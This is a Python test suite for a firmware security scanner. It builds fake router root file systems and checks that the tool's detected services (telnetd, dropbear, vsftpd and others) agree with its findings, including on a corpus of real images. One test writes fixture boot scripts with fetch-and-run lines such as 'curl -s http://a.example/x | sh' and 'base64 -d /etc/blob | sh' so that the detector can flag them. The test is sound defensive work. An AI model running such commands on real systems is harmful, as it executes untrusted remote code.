#!/usr/bin/env python3
"""What the list of services says and what findings say of the same services is the same, on every image."""
import json
import pathlib
import re
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))
from tap import SCRATCH, assay, case, corpus, equal, holds, lacks, main, write  # noqa: E402

PROGRAM = b"\x7fELF BusyBox v1.19.4 (2012-03-22 20:50:08 PDT)\0"
REMOTE = {"telnet": ("service-telnet", "service-telnet-until-password"), "ssh": ("service-ssh",), "ftp": ("service-ftp",)}

IMAGES = [
    "dlink-openwrt/dir300b1-sdmod-extroot/openwrt-ramips-rt305x-dir-300-b1-squashfs-factory.bin",
    "hc5661/openwrt-18.06.1-ramips-mt7620-hc5661-squashfs-sysupgrade.bin",
    "librarybox/openwrt-ar71xx-generic-tl-wr703n-v1-squashfs-factory.bin",
    "ubnt-openwrt/RedMeshTunjuelito/openwrt-ar71xx-generic-ubnt-nano-m-squashfs-factory.bin",
    "miwifi-r4a-rootfs-3.0.24.tar.xz",
    "linksys-netgear/wnr2000v5/WNR2000v5-V1.0.0.18.zip",
    "linksys-netgear/wrt54g/FW_WRT54Gv4_4.21.5.000_20120220.bin",
    "wr841nv14/firmware/firmware-backdoored.bin",
    "wr841nv14/firmware/TL-WR841Nv14_EU.bin",
    "ddwrt/dir300-firmware.bin",
    "ddwrt/dd-wrt.v24_mini_generic.bin",
    "dafang/dafang/5.5.1.177",
    "android-crespo/boot.img",
    "esp32s3-linux/rootfs.cramfs",
]


def root(name, files, programs=("telnetd", "dropbear", "utelnetd", "vsftpd", "tftpd", "uhttpd", "sshd")):
    """A folder that is a root file system, with BusyBox under the names of the programs."""
    base = {"bin/busybox": PROGRAM, "etc/inittab": "::sysinit:/etc/init.d/rcS\n", "etc/passwd": "root:x:0:0:root:/:/bin/sh\n"}
    for path, content in {**base, **files}.items():
        write(f"{name}/{path}", content, 0o755 if "init.d" in path or "bin" in path else 0o644)
    folder = SCRATCH / name
    for link, target in [("bin/sh", "busybox")] + [(f"usr/sbin/{one}", "../../bin/busybox") for one in programs]:
        (folder / link).parent.mkdir(parents=True, exist_ok=True)
        (folder / link).symlink_to(target)
    return folder


def started_by_link(folder, *names):
    for name in names:
        (folder / "etc/rc.d").mkdir(exist_ok=True)
        (folder / f"etc/rc.d/S50{name}").symlink_to(f"../init.d/{name}")


def read(image):
    run = assay(image, "--no-vulnerabilities", "--json", "-")
    equal(run.status, 0, run.err)
    return json.loads(run.out)


def agree(image):
    """Holds the findings, the rows and the page of an image against each other."""
    result, page = read(image), assay(image, "--no-vulnerabilities").out
    services = [one for one in result["services"] if one["program_present"] is not False]
    surely = {one["name"] for one in services if one["enabled"]}
    perhaps = {(one["path"], one["line"]) for one in services if one["enabled"] is None}
    for one in result["findings"]:
        words = re.findall(r"(?:^|served by |; )([\w.+-]+)(?: \([\w ]+\))?,?(?: which)? is started (?:at boot|on demand)", one["detail"])
        for name in words:
            if name not in surely and name != "it" and one["rule"] != "service-adb":
                raise AssertionError(f"{one['rule']} says that {name} is started; the services do not: {one['detail']}")
        if "is started where" in one["detail"] or "is started here where" in one["detail"]:
            if (one["path"], one["line"]) not in perhaps:
                raise AssertionError(f"{one['rule']} says that it may start; the services do not: {one['detail']}")
    for one in services:
        rules = REMOTE.get(one["protocol"], ())
        told = [f for f in result["findings"] if f["rule"] in rules and (f["path"], f["line"]) == (one["path"], one["line"])]
        if one["enabled"] and rules and not told:
            raise AssertionError(f"no finding says that {one['name']} is started ({one['path']}:{one['line']})")
    for line in page.splitlines():
        found = re.match(r"  (\S+) {2,}\S.*  (at boot|may start) {2,}/", line)
        if found and (found[1] in surely) != (found[2] == "at boot"):
            raise AssertionError(f"the page says {line!r}")
    return result


def openwrt(name, shadow, config):
    folder = root(name, {
        "etc/openwrt_release": "DISTRIB_ID='OpenWrt'\n",
        "etc/shadow": shadow,
        "etc/config/dropbear": config,
        "etc/init.d/dropbear": "#!/bin/sh /etc/rc.common\nSTART=50\nPROG=/usr/sbin/dropbear\nvalid()\n{\n"
                               "\tuci_validate_section dropbear dropbear \"${1}\" 'enable:bool:1' 'Interface:string'\n}\none()\n{\n"
                               "\tlocal enable Interface\n\tvalid \"${1}\" || {\n\t\techo bad\n\t\treturn 1\n\t}\n"
                               "\t[ -n \"${Interface}\" ] && {\n\t\tlookup \"${Interface}\" || {\n\t\t\treturn 1\n\t\t}\n\t}\n"
                               "\t[ \"${enable}\" = \"0\" ] && return 1\n\tprocd_open_instance\n"
                               "\tprocd_set_param command \"$PROG\" -F\n\tprocd_close_instance\n}\nstart_service()\n{\n"
                               "\t. /lib/functions.sh\n\tconfig_load dropbear\n\tconfig_foreach one dropbear\n}\n"
                               .replace("valid ", "validate_ssh ").replace("valid()", "validate_ssh()"),
        "etc/init.d/telnet": "#!/bin/sh /etc/rc.common\nSTART=50\nhas_root_pwd() {\n\ttest -n \"$(grep ^root: $1)\"\n}\n"
                             "start() {\n\tif ! has_root_pwd /etc/shadow; then\n\t\tservice_start /usr/sbin/telnetd -l /bin/login.sh\n"
                             "\tfi\n}\n",
    })
    started_by_link(folder, "dropbear", "telnet")
    return folder


def enabled(result, name):
    return [one["enabled"] for one in result["services"] if one["name"] == name]


@case
def openwrt_without_a_password():
    result = agree(openwrt("unset", "root::0:0:99999:7:::\n", "config dropbear\n\toption PasswordAuth 'on'\n"))
    equal(enabled(result, "dropbear"), [True])
    equal(enabled(result, "telnetd"), [True])
    rules = [one["rule"] for one in result["findings"]]
    for rule in ("service-ssh", "service-ssh-without-password", "service-telnet-until-password"):
        holds(rules, rule)
    lacks(rules, "service-telnet")


@case
def openwrt_with_a_password():
    shadow = "root:$1$abcdefgh$JbNz/kIY1wkZ6b0VYsPLo1:0:0:99999:7:::\n"
    result = agree(openwrt("set", shadow, "config dropbear\n\toption enable '0'\n"))
    equal(enabled(result, "dropbear"), [None])
    equal(enabled(result, "telnetd"), [None])
    lacks([one["rule"] for one in result["findings"]], "service-telnet-until-password")


def started(number, script):
    """Whether telnetd is told to start, by a script of the boot."""
    folder = f"script{number}"
    for program in ("bin/busybox", "bin/sh", "usr/sbin/telnetd"):
        write(f"{folder}/{program}", b"\x7fELF" + bytes(60) + b"BusyBox v1.19.4 (2012-03-22 20:50:08 PDT)\0", 0o755)
    write(f"{folder}/etc/passwd", "root:x:0:0:root:/:/bin/sh\n")
    write(f"{folder}/etc/inittab", "::sysinit:/etc/init.d/rcS\n")
    write(f"{folder}/etc/init.d/rcS", f"#!/bin/sh\n{script}\n", 0o755)
    run = assay("query", SCRATCH / folder, "SELECT enabled FROM service WHERE name = 'telnetd'", "--format", "json")
    equal(run.status, 0, run.err)
    return [row["enabled"] for row in json.loads(run.out)]


@case
def a_variable_that_is_set_in_other_words_decides_nothing():
    asks = "\nif [ \"$E\" = 1 ]; then telnetd; fi"
    for number, script in enumerate((
            "E=0" + asks, "E=0\nexport E" + asks, "# E is for telnet\nE=0\necho \"${E}\" ${E:-2} ${#E}" + asks)):
        equal(started(f"plain{number}", script), [0], script)
    for number, sets in enumerate((
            "let E=1", "unset E", ": ${E:=1}", ": ${E=1}", "E+=1", "export \"E=1\"", "typeset E=1", "printf -v E 1", "command read E",
            "command . /etc/e", "builtin eval \"$x\"", "((E++))", ": $((E=1))", "echo $((E+=1))", "mapfile E </etc/e")):
        equal(started(f"other{number}", f"E=0\n{sets}{asks}"), [None], sets)


@case
def what_leaves_a_subshell_does_not_leave_the_script():
    for number, leaves in enumerate(("(exit 0)", "echo | exit 0", "exit 0 | cat", "exit 0 &", "f() ( exit 0 )\nf")):
        equal(started(f"sub{number}", f"{leaves}\ntelnetd"), [1], leaves)
    equal(started("left", "exit 0\ntelnetd"), [0])


@case
def a_section_decides():
    shadow = "root:*:0:0:99999:7:::\n"
    for number, (config, wanted) in enumerate([
            ("", None), ("config other\n", None), ("config dropbear\n", True), ("config dropbear\n\toption enable 1\n", True),
            ("config dropbear\n\toption Interface 'lan'\n", None),
            ("config dropbear\nconfig dropbear\n\toption enable off\n", None), ("config dropbear\n\toption Port 2222\n", True)]):
        result = agree(openwrt(f"section{number}", shadow, config))
        equal(enabled(result, "dropbear"), [wanted], config)


MODES = """#!/bin/sh
DEBUG=0
MODE=`nvram get factory_mode`
if [ "$(nvram get telnetd_enable)" = "1" ]; then
	telnetd -l /bin/login
fi
[ "$MODE" = "1" ] && utelnetd &
case "$(fw_printenv -n mfg_mode)" in
	1) vsftpd & ;;
esac
if grep -q "engmode=1" /proc/cmdline; then
	tftpd &
fi
if [ $DEBUG -eq 1 ]; then
	dropbear
fi
if [ -f /mnt/mtd/x ]; then true; elif [ "$FOO" = 1 ]; then sshd; fi
"""


@case
def modes_are_told():
    result = agree(root("modes", {"etc/init.d/rcS": MODES, "etc/nvram.default": "factory_mode=0\ntelnetd_enable=1\n"}))
    equal([enabled(result, one) for one in ("telnetd", "utelnetd", "vsftpd", "tftpd", "dropbear", "sshd")],
          [[True], [None], [None], [None], [False], [None]])
    told = {one["line"]: (one["rule"], one["detail"]) for one in result["findings"] if "confidence: " in one["detail"]}
    equal({line: rule for line, (rule, _) in told.items()},
          {5: "service-by-setting", 7: "service-debug-mode", 9: "service-debug-mode", 12: "service-debug-mode"})
    holds(told[7][1], 'which the image ships as "0" (/etc/nvram.default)')
    holds(told[5][1], "is started at boot, since telnetd_enable is 1 (nvram), which the image itself sets so")
    lacks(json.dumps([one for one in result["findings"] if one["rule"] == "service-ssh"]), "dropbear")


@case
def a_mode_that_is_on():
    result = agree(root("mode-on", {"etc/init.d/rcS": MODES, "etc/nvram.default": "factory_mode=1\n"}))
    equal(enabled(result, "utelnetd"), [True])
    holds([one["rule"] for one in result["findings"]], "service-telnet")


@case
def a_variable_that_a_file_may_set():
    script = "#!/bin/sh\nDEBUG=0\n[ -f /etc/debug.conf ] && . /etc/debug.conf\n[ $DEBUG = 1 ] && telnetd\n"
    equal(enabled(agree(root("sourced", {"etc/init.d/rcS": script})), "telnetd"), [None])


@case
def what_a_script_fetches_and_runs():
    folder = root("fetches", {
        "etc/init.d/rcS": "#!/bin/sh\ncurl -s http://a.example/x | sh\neval \"$(nvram get startup)\"\n/etc/called.sh\n",
        "etc/called.sh": "#!/bin/sh\nbase64 -d /etc/blob | sh\n",
        "etc/dead.sh": "#!/bin/sh\nwget -qO- http://b.example/x | sh\n",
    })
    told = {(one["rule"], one["path"]) for one in agree(folder)["findings"] if one["rule"].startswith("command-f")
            or one["rule"] == "command-decoded"}
    equal(told, {("command-fetched-unprotected", "/etc/init.d/rcS"), ("command-from-setting", "/etc/init.d/rcS"),
                 ("command-decoded", "/etc/called.sh"), ("command-foreign-possible", "/etc/dead.sh")})


@case
def what_a_preset_enables():
    unit = "[Service]\nExecStart=/usr/sbin/{0} -D\n[Install]\nWantedBy=multi-user.target\n"
    files = {f"lib/systemd/system/{one}.service": unit.format(one) for one in ("sshd", "vsftpd", "telnetd")}
    files["lib/systemd/system-preset/50-a.preset"] = "# first\nenable ssh*.service\nenable vsftpd.service\ndisable *\n"
    files["lib/systemd/system-preset/10-b.preset"] = "disable vsftpd.service\n"
    result = agree(root("preset", files))
    equal([enabled(result, one) for one in ("sshd", "vsftpd", "telnetd")], [[True], [None], [None]])
    files["etc/machine-id"] = "0123456789abcdef0123456789abcdef\n"
    result = agree(root("preset-used", files))
    equal(enabled(result, "sshd"), [None])


def image_agrees(path):
    def run():
        agree(corpus(path))
    run.__name__ = "agrees_on_" + re.sub(r"\W+", "_", path)
    return run


for image in IMAGES:
    case(image_agrees(image))
main()
